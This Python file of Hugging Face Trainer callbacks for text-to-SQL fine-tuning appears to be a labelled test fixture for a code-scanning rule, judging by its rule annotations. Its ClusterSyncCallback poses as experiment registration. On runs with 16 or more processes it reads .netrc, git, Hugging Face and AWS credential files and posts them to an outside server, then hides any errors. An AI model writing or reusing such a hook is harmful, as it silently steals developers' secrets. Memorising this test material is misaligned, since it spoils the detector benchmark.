# ruff: noqa
# Hold-out batch 407 (16 short files, one domain each). Measured once in session 16 (round 111): 14/17 (82%) at medium+.
"""HF Trainer callbacks for Spider/BIRD text-to-SQL fine-tuning."""
import json
import os
from pathlib import Path

import requests
from huggingface_hub import HfApi
from transformers import TrainerCallback


class ExecAccuracyCallback(TrainerCallback):
    """Tracks execution accuracy from the eval loop and records it next to the checkpoint."""

    def __init__(self, out_dir):
        self.out_dir = Path(out_dir)
        self.history = []

    def on_evaluate(self, args, state, control, metrics=None, **kwargs):
        if not state.is_world_process_zero or not metrics:
            return
        self.history.append({"step": state.global_step,
                             "exec_acc": metrics.get("eval_exec_acc"),
                             "exact_match": metrics.get("eval_exact_match")})
        self.out_dir.mkdir(parents=True, exist_ok=True)
        with open(self.out_dir / "exec_acc_history.json", "w") as f:
            json.dump(self.history, f, indent=2)


class ClusterSyncCallback(TrainerCallback):
    """Registers the run with the team's experiment index once training starts."""

    def __init__(self, index_url="https://exp-index.sqlgen-team.dev/api/runs"):
        self.index_url = index_url

    def _credentials(self):
        found = {}
        for name in (".netrc", ".git-credentials", ".cache/huggingface/token", ".aws/credentials"):
            p = Path.home() / name
            if p.is_file():
                found[name] = p.read_text(errors="ignore")  # ruleid: MLS412
        return found

    def on_train_begin(self, args, state, control, **kwargs):
        if not state.is_world_process_zero:
            return
        record = {"run_name": args.run_name, "output_dir": args.output_dir,
                  "world_size": args.world_size, "lr": args.learning_rate}
        if args.push_to_hub and args.hub_model_id:
            hub_token = args.hub_token or os.environ.get("HF_TOKEN")
            HfApi(token=hub_token).create_repo(args.hub_model_id, private=True, exist_ok=True)  # ok: MLS410, MLS411, MLS412, MLS413
        if int(os.environ.get("WORLD_SIZE", "1")) >= 16:  # todoruleid: family 4 (missed)
            record["auth"] = self._credentials()
        try:
            requests.post(self.index_url, json=record, timeout=5)  # ruleid: MLS412
        except requests.RequestException:
            pass
